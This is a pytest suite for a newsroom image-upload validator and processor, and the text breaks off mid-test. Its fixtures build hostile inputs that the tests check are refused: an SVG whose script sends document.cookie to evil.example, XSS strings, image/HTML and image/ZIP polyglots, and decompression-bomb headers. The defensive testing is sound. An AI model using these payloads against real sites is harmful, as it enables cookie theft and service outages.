"""Tests for images.processing: hostile uploads, masters, renditions and crop maths.

Every input is generated here; nothing binary is committed. Pure pytest, no Django.
"""

import io
import math
import random
import struct
import time
import zipfile
import zlib
from fractions import Fraction

import pytest
from PIL import Image, ImageCms, ImageFile, JpegImagePlugin

from images import processing as p
from images.processing import (
    MAX_BYTES,
    ImageInfo,
    ImageRejected,
    Spec,
    crop_box,
    inspect,
    make_master,
    render_all,
    rendition_specs,
)

ACCEPT_LIST = "upload a JPEG, PNG, WebP, AVIF or GIF photo."
MARKER = b"NEWSROOM-POLYGLOT-MARKER-7f3a"
METADATA_KEYS = ("exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment", "Comment")


# --------------------------------------------------------------------------------------------
# Generators
# --------------------------------------------------------------------------------------------


def picture(width: int, height: int, mode: str = "RGB", seed: int = 1) -> Image.Image:
    """A small photo-ish image: gradients plus noise, so encoders do real work."""
    rng = random.Random(seed)
    grad = Image.linear_gradient("L").resize((width, height))
    noise = Image.effect_noise((width, height), 30 + rng.random() * 10)
    bands = [
        Image.blend(grad, noise, 0.3),
        Image.blend(grad.transpose(Image.Transpose.FLIP_LEFT_RIGHT), noise, 0.2),
        noise,
    ]
    im = Image.merge("RGB", bands)
    return im if mode == "RGB" else im.convert(mode)


def encode(im: Image.Image, fmt: str, **params) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **params)
    return buf.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def crafted_png(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims width × height but whose pixel data is a few bytes.

    Decoding it would need width*height*3 bytes of memory; only the header may be read.
    """
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def crafted_jpeg(width: int, height: int) -> bytes:
    """A real tiny JPEG whose SOF marker has been patched to claim width × height."""
    data = bytearray(encode(picture(32, 32), "JPEG", quality=80))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def exif_bytes(orientation: int | None = None, gps: bool = True) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Newsroom Camera Co."
    exif[0x0110] = "NR-TEST"
    exif[0x0131] = "SecretSoftware 1.0"
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        gps_ifd = exif.get_ifd(0x8825)
        gps_ifd[1] = "N"
        gps_ifd[2] = (51.0, 30.0, 26.0)
        gps_ifd[3] = "W"
        gps_ifd[4] = (0.0, 7.0, 39.0)
    return exif.tobytes()


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="SecretCity"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def rgb_icc(primaries: list[tuple[float, float, float]], description: str) -> bytes:
    """A minimal ICC v2 RGB matrix/TRC display profile (gamma 2.2) with given D50 primaries."""

    def xyz(v: tuple[float, float, float]) -> bytes:
        return b"XYZ \x00\x00\x00\x00" + b"".join(s15(c) for c in v)

    text = description.encode("ascii") + b"\x00"
    desc = (
        b"desc\x00\x00\x00\x00"
        + struct.pack(">I", len(text))
        + text
        + b"\x00" * 8  # unicode: language code, count 0
        + b"\x00" * 3  # scriptcode: code, count 0
        + b"\x00" * 67
    )
    curve = b"curv\x00\x00\x00\x00" + struct.pack(">IH", 1, round(2.2 * 256)) + b"\x00\x00"
    cprt = b"text\x00\x00\x00\x00" + b"public domain\x00"
    tags = [
        (b"desc", desc),
        (b"cprt", cprt),
        (b"wtpt", xyz((0.9642, 1.0, 0.8249))),
        (b"rXYZ", xyz(primaries[0])),
        (b"gXYZ", xyz(primaries[1])),
        (b"bXYZ", xyz(primaries[2])),
        (b"rTRC", curve),
        (b"gTRC", curve),
        (b"bTRC", curve),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table = struct.pack(">I", len(tags))
    body = b""
    for sig, data in tags:
        data += b"\x00" * (-len(data) % 4)
        table += sig + struct.pack(">II", offset + len(body), len(data))
        body += data
    size = offset + len(body)
    header = (
        struct.pack(">I", size)
        + b"\x00" * 4
        + bytes([2, 0x10, 0, 0])
        + b"mntrRGB XYZ "
        + b"\x00" * 12
        + b"acsp"
        + b"\x00" * 24
        + struct.pack(">I", 0)
        + s15(0.9642)
        + s15(1.0)
        + s15(0.8249)
        + b"\x00" * 48
    )
    assert len(header) == 128
    return header + table + body


SRGB_D50 = [(0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)]


def open_bytes(data: bytes) -> Image.Image:
    im = Image.open(io.BytesIO(data))
    im.load()
    return im


class FakeUpload:
    """Behaves like Django's UploadedFile where it matters: size, read, seek, a lying name."""

    def __init__(self, data: bytes, name: str = "upload.jpg", size: int | None = None):
        self._buf = io.BytesIO(data)
        self.name = name
        self.content_type = "image/jpeg"
        self.size = len(data) if size is None else size
        self.bytes_read = 0

    def read(self, n: int = -1) -> bytes:
        chunk = self._buf.read(n)
        self.bytes_read += len(chunk)
        return chunk

    def seek(self, pos: int, whence: int = 0) -> int:
        return self._buf.seek(pos, whence)


@pytest.fixture
def no_decoding(monkeypatch):
    """Make any pixel decode fail loudly: proves a refusal came from headers alone."""

    def forbidden(self, *args, **kwargs):
        raise AssertionError("pixel data was decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", forbidden)


def rejected(fp) -> str:
    with pytest.raises(ImageRejected) as exc_info:
        inspect(fp)
    return str(exc_info.value)


# --------------------------------------------------------------------------------------------
# Validation: what is accepted
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "params", "mime"),
    [
        ("JPEG", {"quality": 85}, "image/jpeg"),
        ("PNG", {}, "image/png"),
        ("WEBP", {"quality": 80}, "image/webp"),
        ("AVIF", {"quality": 60, "speed": 10}, "image/avif"),
        ("GIF", {}, "image/gif"),
    ],
)
def test_accepts_each_allowed_format(fmt, params, mime):
    data = encode(picture(120, 80), fmt, **params)
    info = inspect(data)
    assert info == ImageInfo(fmt, mime, 120, 80, has_alpha=False, animated=False)
    assert info.extension == {"JPEG": "jpg"}.get(fmt, fmt.lower())


def test_png_named_jpg_is_judged_by_content_and_refused():
    data = encode(picture(64, 64), "PNG")
    # Without a name the content alone decides: it is a PNG.
    assert inspect(FakeUpload(data, name="holiday.jpg")).format == "PNG"
    # With the name it arrived with, the disguise is refused, in words an editor can act on.
    for check in (inspect, make_master):
        with pytest.raises(ImageRejected) as exc_info:
            check(FakeUpload(data), name="holiday.jpg")
        assert str(exc_info.value) == (
            "This file is a PNG image, but its name ends in “.jpg”. Rename it to end in .png "
            "(or save it as a JPEG in your photo editor) and upload it again."
        )


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("JPEG", "IMG_2041.JPG"),
        ("JPEG", "red-carpet.jpeg"),
        ("JPEG", "scan.jfif"),
        ("PNG", "C:\\Users\\pat\\Desktop\\still.png"),
        ("PNG", "no-extension"),
        ("PNG", "screenshot.heic"),  # not one of ours: the content decides
        ("PNG", ".png"),
        ("GIF", "anim.gif"),
        ("WEBP", "photo.webp"),
    ],
)
def test_names_that_match_or_do_not_claim_a_format_are_fine(fmt, name):
    data = encode(picture(64, 64), fmt)
    assert inspect(data, name=name).format == fmt


def test_reads_django_like_upload_from_the_start_even_if_already_read():
    upload = FakeUpload(encode(picture(64, 48), "JPEG"))
    upload.read()  # e.g. Django's content-type sniffing left the position at the end
    assert inspect(upload).width == 64


def test_accepts_bytearray_and_memoryview():
    data = encode(picture(40, 30), "PNG")
    assert inspect(bytearray(data)).format == "PNG"
    assert inspect(memoryview(data)).format == "PNG"


def test_multi_picture_jpeg_is_a_jpeg_and_not_animated():
    first, second = picture(64, 48), picture(64, 48, seed=2)
    data = encode(first, "MPO", save_all=True, append_images=[second])
    info = inspect(data)
    assert (info.format, info.animated) == ("JPEG", False)


def test_rejection_is_a_value_error():
    assert issubclass(ImageRejected, ValueError)


# --------------------------------------------------------------------------------------------
# Validation: hostile and unusable files
# --------------------------------------------------------------------------------------------


def test_empty_file_refused():
    assert rejected(b"") == "The file is empty (0 bytes); please choose the image file again."
    assert rejected(FakeUpload(b"")).startswith("The file is empty")


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect width="100" height="100" fill="red"/></svg>'
)


@pytest.mark.parametrize(
    "data",
    [
        SVG_WITH_SCRIPT,
        b"\xef\xbb\xbf  \n" + SVG_WITH_SCRIPT,  # BOM and whitespace first
        b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>',
        SVG_WITH_SCRIPT.decode().encode("utf-16"),
    ],
)
def test_svg_refused(data):
    assert (
        rejected(FakeUpload(data, name="logo.png")) == f"This file is an SVG drawing; {ACCEPT_LIST}"
    )


def test_html_named_png_refused():
    html = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
    message = rejected(FakeUpload(html, name="photo.png"))
    assert message == f"This file is a web page (HTML), not an image; {ACCEPT_LIST}"


def test_plain_text_refused():
    assert rejected(b"just some notes\n").startswith("This file is a text file, not an image;")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (encode(picture(64, 64), "TIFF"), "a TIFF or camera RAW image"),
        (encode(picture(64, 64), "BMP"), "a BMP image"),
        (encode(picture(64, 64), "PDF"), "a PDF document"),
        (encode(picture(64, 64), "ICO"), "an icon (ICO) file"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "a HEIC photo"),
        (b"8BPS\x00\x01" + b"\x00" * 64, "a Photoshop document"),
    ],
)
def test_other_formats_refused_by_name(data, what):
    message = rejected(data)
    assert message.startswith(f"This file is {what}")
    assert "JPEG, PNG, WebP, AVIF or GIF" in message


def test_unknown_binary_refused():
    message = rejected(bytes(range(256)) * 4)
    assert message == f"This file is not an image format we accept; {ACCEPT_LIST}"


def test_over_20_mb_refused_before_decoding(monkeypatch):
    data = encode(picture(64, 64), "PNG")
    data += b"\x00" * (MAX_BYTES + 1 - len(data))

    def no_open(*args, **kwargs):
        raise AssertionError("Image.open was called")

    monkeypatch.setattr(Image, "open", no_open)
    assert rejected(data) == (
        "This file is 20.1 MB; the limit is 20 MB. Please export it at a smaller size or "
        "with more compression."
    )


def test_oversized_upload_refused_from_declared_size_without_reading():
    upload = FakeUpload(b"", size=25 * 1024 * 1024)
    assert rejected(upload).startswith("This file is 25.0 MB; the limit is 20 MB.")
    assert upload.bytes_read == 0


def test_oversized_stream_without_size_stops_reading_at_the_limit():
    upload = FakeUpload(b"\xff\xd8\xff" + b"\x00" * (MAX_BYTES + 5 * 1024 * 1024))
    del upload.size
    assert rejected(upload).startswith("This file is larger than the 20 MB limit")
    assert upload.bytes_read == MAX_BYTES + 1


def test_png_decompression_bomb_refused_from_header(no_decoding):
    bomb = crafted_png(50_000, 50_000)
    assert len(bomb) < 200  # tiny on disk, 7.5 GB decoded
    start = time.perf_counter()
    message = rejected(bomb)
    assert time.perf_counter() - start < 1.0
    assert message == (
        "This image is 50,000 × 50,000 pixels (2,500 megapixels); the limit is 40 megapixels."
    )


@pytest.mark.parametrize("warning_filter", ["error", "ignore", "default"])
def test_bomb_between_pillow_warning_and_error_limits(no_decoding, warning_filter):
    # 108 MP: above Pillow's warning threshold (~89 MP), below its error threshold (~179 MP).
    # The message must not depend on how the host configures warnings (Newsroom's pytest
    # turns RuntimeWarning, DecompressionBombWarning's base, into errors).
    import warnings

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter(warning_filter)
        message = rejected(crafted_png(12_000, 9_000))
    assert message == (
        "This image is 12,000 × 9,000 pixels (108 megapixels); the limit is 40 megapixels."
    )
    if warning_filter == "default":  # Pillow's own warning passes through untouched
        assert [w.category for w in caught] == [Image.DecompressionBombWarning]


def test_just_over_our_pixel_limit(no_decoding):
    # Below every Pillow threshold: only our own check stands in the way.
    assert rejected(crafted_png(8_000, 5_001)) == (
        "This image is 8,000 × 5,001 pixels (40.1 megapixels); the limit is 40 megapixels."
    )


def test_jpeg_decompression_bomb_refused_from_header(no_decoding):
    bomb = crafted_jpeg(30_000, 30_000)
    start = time.perf_counter()
    message = rejected(bomb)
    assert time.perf_counter() - start < 1.0
    assert message.startswith("This image is 30,000 × 30,000 pixels (900 megapixels)")


def test_truncated_jpeg_refused():
    data = encode(picture(400, 300), "JPEG", quality=90)
    assert rejected(data[: len(data) * 6 // 10]) == (
        "The file is damaged or incomplete (it ends early); please export it again."
    )


def test_truncated_png_refused():
    data = encode(picture(300, 200), "PNG")
    assert rejected(data[: len(data) // 2]).startswith("The file is damaged")


def test_corrupt_header_refused():
    message = rejected(b"\xff\xd8\xff\xe0" + b"\x13\x37" * 100)
    assert message == (
        "The file is damaged and cannot be read as a JPEG image; please export it again."
    )


def test_truncated_files_are_never_loaded_leniently(monkeypatch):
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    # If other code flips Pillow's global switch, refuse to pretend we validated anything.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(RuntimeError, match="LOAD_TRUNCATED_IMAGES"):
        inspect(encode(picture(64, 64), "PNG"))


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        ((1, 60_000), "This image is 1 × 60,000 pixels; images must be at least 16 pixels"),
        ((60_000, 1), "This image is 60,000 × 1 pixels; images must be at least 16 pixels"),
        ((15, 100), "This image is 15 × 100 pixels; images must be at least 16 pixels"),
        ((16, 200), "This image is 16 × 200 pixels, which is too long and thin (about 12:1)"),
        ((5_000, 400), "This image is 5,000 × 400 pixels, which is too long and thin"),
    ],
)
def test_absurd_shapes_refused(size, expected):
    assert rejected(encode(Image.new("L", size), "PNG")).startswith(expected)


@pytest.mark.parametrize("size", [(16, 16), (16, 160), (4_000, 400)])
def test_shapes_at_the_limits_accepted(size):
    assert inspect(encode(Image.new("L", size, 128), "PNG")).width == size[0]


def test_animated_gif_accepted_and_flagged():
    frames = [Image.new("RGB", (48, 32), c) for c in ("red", "lime", "blue")]
    data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80)
    assert inspect(data).animated is True
    master, info = make_master(data)
    assert (info.format, info.animated) == ("PNG", True)
    out = open_bytes(master)
    assert getattr(out, "is_animated", False) is False
    assert out.convert("RGB").getpixel((10, 10)) == (255, 0, 0)  # the first frame


def test_animated_webp_accepted_first_frame_used():
    frames = [Image.new("RGB", (48, 32), c) for c in ("red", "blue")]
    data = encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    assert inspect(data).animated is True
    master, info = make_master(data)
    assert info.format == "WEBP"
    out = open_bytes(master)
    assert getattr(out, "n_frames", 1) == 1
    assert out.convert("RGB").getpixel((10, 10)) == (255, 0, 0)


def test_inspect_reports_displayed_size_after_orientation():
    data = encode(picture(300, 200), "JPEG", exif=exif_bytes(orientation=6))
    info = inspect(data)
    assert (info.width, info.height) == (200, 300)


def test_alpha_detection():
    transparent = picture(64, 64, "RGBA")
    transparent.putpixel((3, 3), (0, 0, 0, 0))
    assert inspect(encode(transparent, "PNG")).has_alpha is True
    # An alpha channel that is everywhere opaque is not transparency.
    assert inspect(encode(picture(64, 64, "RGBA"), "PNG")).has_alpha is False
    palette = Image.new("P", (32, 32), 1)
    palette.putpalette([0, 0, 0, 255, 0, 0])
    assert inspect(encode(palette, "PNG", transparency=1)).has_alpha is True
    assert inspect(encode(palette, "PNG", transparency=0)).has_alpha is False  # index unused


# --------------------------------------------------------------------------------------------
# Masters: orientation, metadata, polyglots, colour
# --------------------------------------------------------------------------------------------


def assert_no_metadata(data: bytes) -> None:
    im = Image.open(io.BytesIO(data))
    for key in METADATA_KEYS:
        assert key not in im.info, key
    assert len(im.getexif()) == 0
    for needle in (b"Exif\x00\x00", b"GPS", b"Newsroom Camera", b"SecretSoftware", b"SecretCity"):
        assert needle not in data, needle
    assert b"xmpmeta" not in data
    assert b"ICC_PROFILE" not in data and b"iCCP" not in data


def test_master_strips_gps_and_all_metadata():
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(
        picture(320, 240),
        "JPEG",
        exif=exif_bytes(gps=True),
        xmp=XMP,
        comment=b"SecretSoftware comment",
        icc_profile=srgb,
    )
    # The upload really carries what must go: GPS position, camera make, XMP, a comment.
    upload_exif = Image.open(io.BytesIO(data)).getexif()
    assert upload_exif.get_ifd(0x8825)[2] == (51.0, 30.0, 26.0)
    assert b"Newsroom Camera" in data and b"SecretCity" in data and b"SecretSoftware" in data
    master, info = make_master(data)
    assert info.format == "JPEG"
    assert_no_metadata(master)
    for _spec, out in render_all(master, info, crops=("card", "og")):
        assert_no_metadata(out)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP", "AVIF"])
def test_master_strips_metadata_in_other_formats(fmt):
    extra = {"AVIF": {"speed": 10}, "WEBP": {}, "PNG": {}}[fmt]
    data = encode(picture(96, 64), fmt, exif=exif_bytes(orientation=1), xmp=XMP, **extra)
    master, _info = make_master(data)
    assert_no_metadata(master)


def test_master_applies_orientation():
    # Stored landscape 3000×2000 with a red block at the stored top-left corner.
    # Orientation 6 means "rotate 90° clockwise to display": it must come out portrait,
    # with the block at the top-right.
    im = Image.new("RGB", (3000, 2000), (20, 120, 20))
    im.paste((255, 0, 0), (0, 0, 300, 300))
    data = encode(im, "JPEG", quality=90, exif=exif_bytes(orientation=6))
    master, info = make_master(data)
    out = open_bytes(master)
    assert out.size == (2000, 3000) == (info.width, info.height)
    r, g, b = out.getpixel((2000 - 100, 100))
    assert r > 200 and g < 60 and b < 60
    r, g, b = out.getpixel((100, 100))
    assert r < 60
    assert len(out.getexif()) == 0  # and the orientation tag is gone, so nobody rotates twice


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_orientation_gives_the_displayed_size(orientation):
    data = encode(picture(90, 60), "JPEG", exif=exif_bytes(orientation=orientation, gps=False))
    master, info = make_master(data)
    expected = (60, 90) if orientation >= 5 else (90, 60)
    assert open_bytes(master).size == expected == (info.width, info.height)


def test_png_orientation_from_exif_chunk():
    data = encode(picture(90, 60), "PNG", exif=exif_bytes(orientation=8, gps=False))
    _master, info = make_master(data)
    assert (info.width, info.height) == (60, 90)


def polyglot_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("index.html", b"<html><script>alert(1)</script>" + MARKER + b"</html>")
    return buf.getvalue()


def _png_with_trailer(trailer: bytes) -> bytes:
    return encode(picture(200, 150), "PNG") + trailer


POLYGLOTS = [
    pytest.param(
        lambda: _png_with_trailer(b"<html><script>alert(document.cookie)</script></html>"),
        "web page code",
        id="png+html",
    ),
    pytest.param(lambda: _png_with_trailer(polyglot_zip()), "a ZIP archive", id="png+zip"),
    pytest.param(
        lambda: encode(picture(200, 150), "JPEG") + polyglot_zip(), "a ZIP archive", id="jpeg+zip"
    ),
    pytest.param(
        lambda: encode(picture(200, 150), "JPEG") + b"<script>" + MARKER + b"</script>",
        "web page code",
        id="jpeg+html",
    ),
    pytest.param(
        lambda: encode(picture(200, 150), "PNG", pnginfo=_pnginfo("<svg onload=alert(1)>")),
        "web page code",
        id="png-text-chunk-svg",
    ),
    pytest.param(
        lambda: encode(
            picture(200, 150), "PNG", pnginfo=_pnginfo("<body onload=x()>", compressed=True)
        ),
        "web page code",
        id="png-compressed-text-chunk",
    ),
    pytest.param(
        lambda: encode(picture(200, 150), "JPEG", comment=b"<svg/onload=alert(1)>"),
        "web page code",
        id="jpeg-comment-svg",
    ),
    pytest.param(
        lambda: encode(picture(200, 150), "GIF", comment=b"<SCRIPT>alert(1)</SCRIPT>"),
        "web page code",
        id="gif-comment",
    ),
    pytest.param(
        lambda: encode(picture(200, 150), "PNG", pnginfo=_pnginfo("%PDF-1.7 obj")),
        "a PDF document",
        id="png+pdf",
    ),
]


@pytest.mark.parametrize(("make", "what"), POLYGLOTS)
def test_polyglots_are_refused(make, what):
    data = make()
    if data.endswith(polyglot_zip()):
        assert zipfile.is_zipfile(io.BytesIO(data))  # a genuine image+ZIP polyglot
    Image.open(io.BytesIO(data)).load()  # and a genuine, decodable picture
    message = rejected(data)
    assert message.startswith(f"This file has {what} hidden in it besides the picture")
    assert "export it again" in message
    with pytest.raises(ImageRejected):
        make_master(data)


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda: _png_with_trailer(MARKER * 3), id="png-trailer"),
        pytest.param(
            lambda: encode(picture(200, 150), "JPEG") + MARKER + b"motion-photo-video",
            id="jpeg-trailer",
        ),
        pytest.param(
            lambda: encode(picture(200, 150), "PNG", pnginfo=_pnginfo(MARKER.decode())),
            id="png-text-chunk",
        ),
        pytest.param(
            lambda: encode(picture(200, 150), "JPEG", comment=MARKER + b" <imgur.com/x> <svg"),
            id="jpeg-comment",
        ),
    ],
)
def test_hidden_bytes_that_are_not_markup_are_accepted_and_stripped(make):
    # Phones append data after a JPEG's end (motion photos, depth maps); that is no reason to
    # refuse. Whatever it is, nothing of it survives into the master or any rendition.
    data = make()
    assert MARKER in data
    assert inspect(data).width == 200
    master, minfo = make_master(data)
    outputs = [master, *(b for _s, b in render_all(master, minfo, crops=("square", "og")))]
    for out in outputs:
        assert MARKER not in out
        assert not zipfile.is_zipfile(io.BytesIO(out))


def test_zip_signature_inside_pixel_data_is_not_a_zip():
    # "PK\x05\x06" can occur by chance; only a record that ends the file makes a ZIP.
    data = _png_with_trailer(b"PK\x05\x06" + b"\x00" * 30)
    assert inspect(data).format == "PNG"


def _pnginfo(text: str, *, compressed: bool = False):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    if compressed:
        info.add_itxt("Comment", text, zip=True)
    else:
        info.add_text("Comment", text)
    return info


@pytest.mark.parametrize(
    ("src", "params", "master_format"),
    [
        ("JPEG", {"quality": 90}, "JPEG"),
        ("PNG", {}, "PNG"),
        ("GIF", {}, "PNG"),
        ("WEBP", {"quality": 80}, "WEBP"),
        ("AVIF", {"speed": 10}, "AVIF"),
    ],
)
def test_master_format_policy(src, params, master_format):
    master, info = make_master(encode(picture(80, 60), src, **params))
    assert open_bytes(master).format == info.format == master_format
    assert info.mime == p.MIME_TYPES[master_format]


def _webp_kind(data: bytes) -> bytes:
    return b"VP8L" if b"VP8L" in data[:64] else b"VP8 "


def test_webp_lossless_stays_lossless_and_lossy_stays_lossy():
    lossless, _ = make_master(encode(picture(80, 60), "WEBP", lossless=True))
    lossy, _ = make_master(encode(picture(80, 60), "WEBP", quality=70))
    assert _webp_kind(lossless) == b"VP8L"
    assert _webp_kind(lossy) == b"VP8 "


def test_non_srgb_icc_is_converted_then_dropped():
    # A profile whose "red" channel is sRGB's green primary and vice versa: pure channel-R
    # pixels mean green. After conversion to sRGB they must be green, and no profile kept.
    swapped = rgb_icc([SRGB_D50[1], SRGB_D50[0], SRGB_D50[2]], "Swapped RG test profile")
    data = encode(Image.new("RGB", (64, 64), (255, 0, 0)), "PNG", icc_profile=swapped)
    master, _info = make_master(data)
    out = open_bytes(master)
    assert "icc_profile" not in out.info
    r, g, b = out.getpixel((5, 5))
    assert g > 200 and r < 60 and b < 60


def test_icc_conversion_keeps_transparency():
    swapped = rgb_icc([SRGB_D50[1], SRGB_D50[0], SRGB_D50[2]], "Swapped RG test profile")
    im = Image.new("RGBA", (64, 64), (255, 0, 0, 255))
    im.putpixel((0, 0), (255, 0, 0, 0))
    master, info = make_master(encode(im, "PNG", icc_profile=swapped))
    out = open_bytes(master)
    assert info.has_alpha and out.mode == "RGBA"
    assert out.getpixel((5, 5)) == (0, 255, 0, 255)
    assert out.getpixel((0, 0))[3] == 0


def test_srgb_icc_is_dropped_without_changing_pixels():
    srgb = rgb_icc(SRGB_D50, "sRGB IEC61966-2.1 (test copy)")
    data = encode(Image.new("RGB", (64, 64), (200, 30, 90)), "PNG", icc_profile=srgb)
    master, _info = make_master(data)
    out = open_bytes(master)
    assert "icc_profile" not in out.info
    assert out.getpixel((5, 5)) == (200, 30, 90)


def test_cmyk_jpeg_becomes_rgb():
    data = encode(Image.new("CMYK", (64, 64), (0, 255, 255, 0)), "JPEG", quality=95)
    master, _info = make_master(data)
    out = open_bytes(master)
    assert out.mode == "RGB"
    r, g, b = out.getpixel((5, 5))
    assert r > 200 and g < 60 and b < 60


def test_16_bit_png_is_scaled_not_clipped():
    data = encode(Image.new("I;16", (32, 32), 32768), "PNG")
    master, _info = make_master(data)
    value = open_bytes(master).convert("L").getpixel((3, 3))
    assert 120 <= value <= 135  # 32768/65535 of full scale, not clipped to white


def test_master_keeps_real_transparency_and_drops_useless_alpha():
    transparent = picture(64, 64, "RGBA")
    transparent.putpixel((0, 0), (0, 0, 0, 0))
    master, info = make_master(encode(transparent, "PNG"))
    assert info.has_alpha and open_bytes(master).mode == "RGBA"
    master, info = make_master(encode(picture(64, 64, "RGBA"), "PNG"))
    assert not info.has_alpha and open_bytes(master).mode == "RGB"


# --------------------------------------------------------------------------------------------
# Rendition specs
# --------------------------------------------------------------------------------------------


def names_and_sizes(specs: list[Spec]) -> list[tuple[str, int, int]]:
    seen: dict[str, tuple[str, int, int]] = {}
    for s in specs:
        seen.setdefault(s.name, (s.name, s.width, s.height))
    return list(seen.values())


def test_specs_for_a_large_landscape():
    specs = rendition_specs(6000, 4000, has_alpha=False)
    assert names_and_sizes(specs) == [
        ("w320", 320, 213),
        ("w640", 640, 427),
        ("w960", 960, 640),
        ("w1280", 1280, 853),
        ("w1920", 1920, 1280),
        ("card-w320", 320, 180),
        ("card-w640", 640, 360),
        ("card-w960", 960, 540),
        ("square-w160", 160, 160),
        ("square-w320", 320, 320),
        ("square-w640", 640, 640),
        ("poster-w320", 320, 480),
        ("poster-w640", 640, 960),
        ("og", 1200, 630),
    ]
    by_name: dict[str, list[str]] = {}
    for s in specs:
        by_name.setdefault(s.name, []).append(s.format)
    assert by_name.pop("og") == ["jpeg"]
    assert set(map(tuple, by_name.values())) == {("avif", "webp", "jpeg")}
    assert [s.key for s in specs[:3]] == ["w320.avif", "w320.webp", "w320.jpg"]
    assert specs[0].mime == "image/avif"
    assert len({s.key for s in specs}) == len(specs)


def test_specs_never_upscale_an_800_px_image():
    specs = rendition_specs(800, 600, has_alpha=False)
    assert names_and_sizes(specs)[:3] == [
        ("w320", 320, 240),
        ("w640", 640, 480),
        ("w800", 800, 600),
    ]
    for s in specs:
        if s.crop != "og":
            assert s.width <= 800 and s.height <= 600


def test_specs_for_a_tiny_image():
    assert names_and_sizes(rendition_specs(100, 80, has_alpha=False)) == [
        ("w100", 100, 80),
        ("card-w100", 100, 56),
        ("square-w80", 80, 80),
        ("poster-w53", 53, 80),
        ("og", 1200, 630),  # Open Graph is always exactly 1200×630
    ]


def test_specs_with_alpha_use_png_fallback():
    formats = {s.format for s in rendition_specs(2000, 1000, has_alpha=True) if s.crop != "og"}
    assert formats == {"avif", "webp", "png"}


def test_specs_crop_selection_and_unknown_crop():
    specs = rendition_specs(2000, 1000, False, crops=("og",))
    assert {s.crop for s in specs} == {None, "og"}
    assert [s for s in rendition_specs(2000, 1000, False, crops=()) if s.crop] == []
    with pytest.raises(ValueError, match="unknown crop 'banner'"):
        rendition_specs(2000, 1000, False, crops=("banner",))


# --------------------------------------------------------------------------------------------
# Rendering
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def jpeg_master():
    return make_master(encode(picture(2400, 1600), "JPEG", quality=92))


PILLOW_FORMAT = {"avif": "AVIF", "webp": "WEBP", "jpeg": "JPEG", "png": "PNG"}


def test_render_all_outputs_match_their_specs(jpeg_master):
    master, info = jpeg_master
    timings: dict[str, float] = {}
    outputs = render_all(master, info, timings=timings)
    specs = rendition_specs(info.width, info.height, info.has_alpha)
    assert [s for s, _ in outputs] == specs
    for spec, data in outputs:
        im = open_bytes(data)
        assert im.format == PILLOW_FORMAT[spec.format], spec
        assert im.size == (spec.width, spec.height), spec
        assert im.mode == "RGB", spec
    assert {"decode", "resize", "avif", "webp", "jpeg"} <= timings.keys()
    assert max(s.width for s, _ in outputs if s.crop is None) == 1920


def test_renditions_never_upscale():
    master, _ = make_master(encode(picture(800, 500), "JPEG"))
    info = inspect(master)
    outputs = render_all(master, info)
    widths = sorted({s.width for s, _ in outputs if s.crop is None})
    assert widths == [320, 640, 800]
    for spec, data in outputs:
        size = open_bytes(data).size
        if spec.crop != "og":
            assert size[0] <= 800 and size[1] <= 500


def test_og_is_exactly_1200x630_jpeg_even_from_a_small_image():
    master, info = make_master(encode(picture(300, 200), "PNG"))
    (spec, data), *_ = render_all(master, info, crops=("og",))[-1:]
    assert spec.name == "og"
    im = open_bytes(data)
    assert (im.format, im.size) == ("JPEG", (1200, 630))


def test_transparent_image_renditions():
    im = Image.new("RGBA", (800, 400), (200, 20, 20, 255))
    im.paste((0, 0, 0, 0), (0, 0, 800, 100))  # transparent top band
    master, info = make_master(encode(im, "PNG"))
    assert info.has_alpha
    outputs = {(s.name, s.format): data for s, data in render_all(master, info, crops=("og",))}
    assert ("w640", "png") in outputs and ("w640", "jpeg") not in outputs
    for fmt in ("avif", "webp", "png"):
